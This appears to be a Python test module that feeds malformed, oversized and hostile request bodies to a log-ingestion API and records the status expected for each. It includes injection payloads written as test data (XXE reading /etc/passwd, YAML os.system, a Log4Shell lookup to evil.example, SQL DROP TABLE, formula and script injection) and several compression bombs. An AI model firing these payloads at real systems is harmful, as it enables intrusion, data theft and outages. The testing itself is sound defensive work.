"""Bodies, fields, encodings and media types that are wrong, odd or meant to hurt."""

import gzip
import json
import zlib

import brotli
import zstandard

from tests.hostile.asking import BAD, GOOD, OK, case

DEEP = 100_000
PACKED = gzip.compress(json.dumps(GOOD).encode())
PLAIN = json.dumps(GOOD).encode()

SYNTAX = [
    case("empty", BAD), case("blank", BAD, b" \r\n "), case("cut", BAD, b'{"message":"a"'),
    case("cut over lines", BAD, b'{\n"message":\n"a"'), case("trailing", BAD, b'{"message":"a"} x'),
    case("two documents", BAD, b'{"a":1}{"b":2}'), case("NaN", BAD, b'{"n":NaN}'), case("infinity", BAD, b'{"n":-Infinity}'),
    case("comment", BAD, b'/* a */{"message":"a"}'), case("bad escape", BAD, b'{"message":"\\x41"}'),
    case("raw control", BAD, b'{"message":"a\x01"}'), case("byte order mark", OK, b"\xef\xbb\xbf" + PLAIN),
    case("UTF-16", BAD, '{"message":"a"}'.encode("utf-16")), case("UTF-32", BAD, '{"message":"a"}'.encode("utf-32")),
    case("Latin-1", BAD, '{"message":"\xe9"}'.encode("latin-1")), case("overlong", BAD, b'{"message":"\xc0\xaf"}'),
    case("raw surrogate", BAD, b'{"message":"\xed\xa0\x80"}'), case("escaped surrogate", OK, b'{"message":"\\ud800"}'),
    case("NUL", OK, b'{"message":"a\\u0000b","k\\u0000":"\\u0000"}'), case("raw NUL", BAD, b'{"message":"a\0"}'),
    case("giant integer", BAD, b'{"n":' + b"9" * 5000 + b"}"), case("30 digits", OK, b'{"n":' + b"9" * 30 + b"}"),
    case("1e999", BAD, b'{"n":1e999}'), case("brackets", BAD, b"[" * DEEP + b"]" * DEEP),
    case("open brackets", BAD, b"[" * DEEP), case("braces", BAD, b'{"a":' * DEEP + b"1" + b"}" * DEEP),
    case("number", BAD, b"5"), case("text", BAD, b'"x"'), case("null", BAD, b"null"), case("true", BAD, b"true"),
    case("XML", BAD, b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'),
    case("YAML", BAD, b'!!python/object/apply:os.system ["id"]'), case("pickle", BAD, b"\x80\x04\x95\x0b\x00"),
    case("empty list", OK, b"[]"), case("empty object", OK, b"{}"), case("list of scalars", OK, b'[1,"a",null]'),
    case("double key", OK, b'{"message":"a","message":"b"}'), case("form", BAD, b"message=a&level=info"),
    case("HTML", BAD, b"<html></html>"), case("protobuf", BAD, b"\x0a\x05\x12\x03abc"),
]  # fmt: skip

STRANGE = [None, True, 5, -1.5, "text", [1], {"a": 1}]
FIELDS = [
    case(f"{name} as {type(value).__name__}", OK, {**GOOD, name: value})
    for name in (
        "timestamp",
        "level",
        "message",
        "service",
        "trace_id",
        "session_id",
        "attributes",
        "user_id",
        "http.route",
    )
    for value in STRANGE
]
TIMES = [
    case(f"time {text!r}"[:60], OK, {**GOOD, "timestamp": text})
    for text in (
        "", "yesterday", "2026-02-30T00:00:00Z", "99999-01-01T00:00:00Z", "1960-01-01T00:00:00Z", "2150-01-01T00:00:00Z",
        "2026-01-01T00:00:00+99:00", "2026-01-01T25:00:00Z", "2026-01-01", "01/02/2026", "9" * 400, "-1", "NaN", "\u0661",
        -1, 0, 1e300, 10**25, 2**63, 1.5,
    )
]  # fmt: skip
SIZES = [
    case("a million characters", OK, {**GOOD, "message": "m" * 1_000_000}),
    case("a long value", OK, {**GOOD, "attributes": {"k": "v" * 1_000_000}}),
    case("a long key", OK, {**GOOD, "attributes": {"k" * 10_000: 1}}),
    case("5,000 attributes", OK, {**GOOD, "attributes": {f"k{n}": n for n in range(5000)}}),
    case("deep attributes", OK, {**GOOD, "attributes": json.loads('{"a":' * 60 + "1" + "}" * 60)}),
    case("many words", OK, {**GOOD, "message": " ".join(f"word{n}" for n in range(200_000))}),
    case("a long service", OK, {**GOOD, "service": "s" * 10_000}),
    case("20,001 records", BAD, b"[" + b",".join([b"{}"] * 20_001) + b"]"),
    case("21 MiB", {413}, b"[" + b" " * (21 * 1024 * 1024) + b"]"),
]
HOSTILE_TEXTS = [
    "\x1b[31mred\x1b[0m", "\u202eevil\u202c", "line\nERROR forged line", "<script>alert(1)</script>", "<!channel> <@U1>",
    "{{7*7}}${7*7}#{7*7}", "${jndi:ldap://evil.example/a}", "=cmd|'/c calc'!A1", "'; DROP TABLE diagnostics_log; --",
    "a" * 5000 + "!" * 5000, "\\" * 5000, "%s%n%x", "../../etc/passwd", "\ufeff\u200b\u2028\u2029",
]  # fmt: skip
TEXTS = [
    case(f"text {n}", OK, {**GOOD, "message": text, "attributes": {text: text}}) for n, text in enumerate(HOSTILE_TEXTS)
]
ODD_FIELDS = [
    case(
        "mass assignment",
        OK,
        {**GOOD, "id": 1, "environment_id": 2, "batch_id": 3, "user_key": "x", "fingerprint": "y"},
    ),
    case("prototype keys", OK, {**GOOD, "__proto__": {"a": 1}, "constructor": {"prototype": {}}, "__class__": "x"}),
    case("odd keys", OK, {**GOOD, "": 1, ".": 2, "a.b": 3, "a..b": 4, " ": 5, "a": {"b": 6}}),
    case("fake enrichment", OK, {**GOOD, "geo_country": "XX", "client_network": "1.2.3.4", "is_bot": True}),
    case("status beyond", OK, {**GOOD, "http.response.status_code": 10**20, "duration_ms": 1e308}),
    case("status text", OK, {**GOOD, "http.response.status_code": "5oo", "duration_ms": "fast"}),
    case("one poisoned of three", OK, b'[{"message":"a"},{"n":NaN},{"message":"\\ud800"}]'),
    case("one bad line of three", OK, b'{"message":"a"}\n{"message":\n{"message":"c"}'),
]


def packed(name, allowed, data, coding):
    return case(name, allowed, data, headers=(("Content-Encoding", coding),))


def zeros():
    return b"\0" * 80_000_000


CODINGS = [
    packed("gzip", OK, PACKED, "gzip"), packed("upper case", OK, PACKED, "GZIP"), packed("claims gzip", BAD, PLAIN, "gzip"),
    packed("cut gzip", BAD, PACKED[:-5], "gzip"), packed("wrong checksum", BAD, PACKED[:-8] + b"\0" * 4 + PACKED[-4:], "gzip"),
    packed("wrong size", BAD, PACKED[:-4] + b"\1" * 4, "gzip"), packed("behind gzip", BAD, PACKED + b"garbage", "gzip"),
    packed("two members", OK, gzip.compress(b'{"message":') + gzip.compress(b'"x"}'), "gzip"),
    case("two lines of coding", {415}, PACKED, headers=(("Content-Encoding", "gzip"), ("Content-Encoding", "gzip"))),
    packed("unknown coding", {415}, PLAIN, "exi"), packed("stacked", {415}, gzip.compress(PACKED), "gzip, gzip"),
    packed("ten layers", {415}, PACKED, ", ".join(["gzip"] * 10)), case("not claimed", BAD, PACKED),
    packed("empty gzip", BAD, b"", "gzip"), packed("raw deflate", OK, zlib.compress(PLAIN)[2:-4], "deflate"),
    packed("cut br", BAD, brotli.compress(PLAIN)[:-2], "br"), packed("no zstd", BAD, b"junk", "zstd"),
    packed("gzip bomb", {413}, lambda: gzip.compress(zeros(), 1), "gzip"), packed("deflate bomb", {413}, lambda: zlib.compress(zeros(), 1), "deflate"),
    packed("br bomb", {413}, lambda: brotli.compress(zeros(), quality=1), "br"), packed("zstd bomb", {413}, lambda: zstandard.compress(zeros()), "zstd"),
    packed("bomb of records", {413}, lambda: gzip.compress(b"[" + b"{}," * 25_000_000 + b"{}]", 1), "gzip"),
    packed("100,000 empty members", {400, 413}, lambda: gzip.compress(b"") * 100_000, "gzip"), packed("cut zstd", BAD, zstandard.compress(PLAIN)[:-1], "zstd"),
    packed("bomb of lines", {400, 413}, lambda: gzip.compress(b"x\n" * 30_000_000, 1), "gzip"),
    packed("bomb of empty records", {400, 413}, lambda: gzip.compress(b"[" + b"{}," * 20_000_000 + b"{}]", 1), "gzip"),
    packed("bomb of brackets", {413}, lambda: gzip.compress(b"[" * 80_000_000, 1), "gzip"),
]  # fmt: skip

TYPES = [
    case(f"type {text[:40]!r}", allowed, GOOD, content_type=text)
    for text, allowed in (
        ("", OK), ("application/json;", OK), ("APPLICATION/JSON; Charset=UTF-8", OK), ("text/html", {415}),
        ("application/xml", {415}), ("multipart/form-data; boundary=x", {415}), ("application/x-www-form-urlencoded", {415}),
        ("application/json, application/json", {415}), ("a" * 20_000, {415}), ("application/json; charset=utf-16", {415}),
        ("application/json; charset=zlib_codec", {415}), ("application/json; charset=idna", {415}),
        ("application/json; charset=unicode_escape", {415}), ("application/x-protobuf", {415}),
    )
]  # fmt: skip
BODIES = [*SYNTAX, *FIELDS, *TIMES, *SIZES, *TEXTS, *ODD_FIELDS, *CODINGS, *TYPES]
